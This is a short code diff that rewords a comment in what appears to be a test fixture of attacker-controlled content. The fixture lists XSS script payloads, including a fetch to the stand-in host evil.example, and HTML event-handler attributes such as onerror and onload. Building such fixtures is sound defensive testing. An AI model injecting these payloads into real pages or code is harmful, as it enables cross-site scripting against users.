@@ -1,4 +1,4 @@
-// What someone who means harm might store, for tests: as text, as the target of a link, and as a node that is none of ours.
+// Content that an attacker might store, for tests: as text, as a link's target, and as an unknown node.
 
 const scripts = ['alert(1)', 'fetch("//evil.example")', 'location=name', '(()=>{})()']
 const events = ['onload', 'onerror', 'onclick', 'onmouseover', 'onfocus', 'ontoggle', 'onanimationstart', 'onpointerenter']
